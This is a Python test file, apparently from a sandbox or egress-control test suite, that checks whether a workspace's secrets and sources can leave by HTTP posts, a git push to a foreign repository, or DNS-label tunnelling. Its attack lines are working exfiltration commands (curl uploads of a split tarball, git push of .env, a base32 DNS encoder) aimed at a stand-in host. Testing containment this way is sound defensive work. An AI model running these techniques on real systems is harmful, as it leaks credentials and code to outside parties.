# SPDX-License-Identifier: Apache-2.0
"""Exfiltration: what the workspace holds leaves by roads that are open."""

import base64
import os
import re

import lib_far as far
import lib_net as net
from lib_case import case

ENV = "DATABASE_PASSWORD=%s\nAPI_TOKEN=%s\n" % (os.urandom(12).hex(), os.urandom(20).hex())


def workspace(c, size):
    """A project of so many bytes with its secrets, as attackers find them."""
    c.file(".env", ENV)
    for i in range(8):
        c.file("src/part%d.c" % i, base64.b64encode(os.urandom(size // 11)))


def web(c, port):
    """A server that takes all that is sent; returns the bodies."""
    bodies = []

    def handle(s):
        with s.makefile("rb") as stream:
            while line := stream.readline():
                size = 0
                while line.strip():
                    if line.lower().startswith(b"content-length:"):
                        size = int(line.split()[1])
                    line = stream.readline()
                bodies.append(stream.read(size))
                s.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")

    far.serve(c, port, handle)
    return bodies


@case("exfiltration", seconds=8, quick=True)
def upload_pieces(c):
    """the whole workspace, secrets first, in posts of 4 kB"""
    workspace(c, 3000000)
    bodies = web(c, 80)
    c.call("ls")
    c.attack("tar cf - .env src | split -b 4096 - p.; for p in p.*; do echo url=http://%s/log; echo data-binary=@$p; echo next; done >list; "
             "curl -s -K list >/dev/null; touch sent" % c.far)
    c.begin()
    c.mark()
    c.exists("sent", 60)
    c.prove(ENV.encode() in b"".join(bodies[:2]) and sum(map(len, bodies)) > 2900000, "the server holds the secrets and 3 MB")


@case("exfiltration", seconds=25)
def upload_slow(c):
    """the secrets and 200 kB in posts of 2 kB, five a second, each by a process of its own"""
    workspace(c, 200000)
    bodies = web(c, 443)
    c.attack("tar cf - .env src | split -a 3 -b 2048 - p.; for p in p.*; do curl -s --data-binary @$p http://%s:443/log >/dev/null; sleep 0.15; done; touch sent" % c.far)
    c.begin()
    c.mark()
    c.exists("sent", 90)
    c.prove(ENV.encode() in b"".join(bodies[:2]) and sum(map(len, bodies)) > 190000, "the server holds the secrets and 200 kB")


@case("exfiltration", seconds=10)
def git_push(c):
    """secrets and sources pushed to a repository that is not the project's"""
    workspace(c, 3000000)
    bare = c.base + "/taken.git"
    os.system("git init -q --bare -b main %s" % bare)
    start_git(c, bare)
    c.call("git init -q -b main . && git config user.name a && git config user.email a@b && echo int x\\; >x.c && git add x.c && git commit -qm first")
    c.attack("git add -f .env src && git commit -qm second && git push -q git://%s/taken.git main; touch sent" % c.far)
    c.begin()
    c.mark()
    c.exists("sent", 40)
    held = os.popen("git --git-dir=%s show main:.env 2>/dev/null" % bare).read()
    c.prove(held == ENV, "the other repository holds the secrets")


def start_git(c, bare):
    far.start(c, ["git", "daemon", "--reuseaddr", "--listen=" + c.far, "--base-path=" + os.path.dirname(bare), "--export-all",
                  "--enable=receive-pack", bare])
    net.connect("far", c.far, 9418).close()


@case("exfiltration", seconds=8, quick=True, alone=True, filter="udp port 53")
def dns_labels(c):
    """the secrets and 6 kB of sources in the labels of names that are looked up"""
    workspace(c, 6000)
    c.file("send.py", """\
import base64, socket
data = open(".env", "rb").read() + open("src/part0.c", "rb").read() * 8
text = base64.b32encode(data).decode().rstrip("=").lower()
for i in range(0, len(text), 120):
    a, b = text[i : i + 60], text[i + 60 : i + 120]
    try:
        socket.getaddrinfo("%d.%s.n0.far.test" % (i // 120, ".".join(x for x in (a, b) if x)), 80, socket.AF_INET)
    except OSError:
        pass
open("sent", "w")
""")
    c.attack("python3 send.py")
    c.begin()
    c.mark()
    c.exists("sent", 60)
    with open(os.environ["WORLD"] + "/dns.log") as file:
        parts = dict(re.findall(r" (\d+)\.([a-z2-7.]+)\.n0\.far\.test$", file.read(), re.M))
    text = "".join(parts[str(i)].replace(".", "") for i in range(len(parts)))
    data = base64.b32decode(text.upper() + "=" * (-len(text) % 8))
    c.prove(data.startswith(ENV.encode()) and len(data) > 4000, "the name server can put %d bytes together again" % len(data))
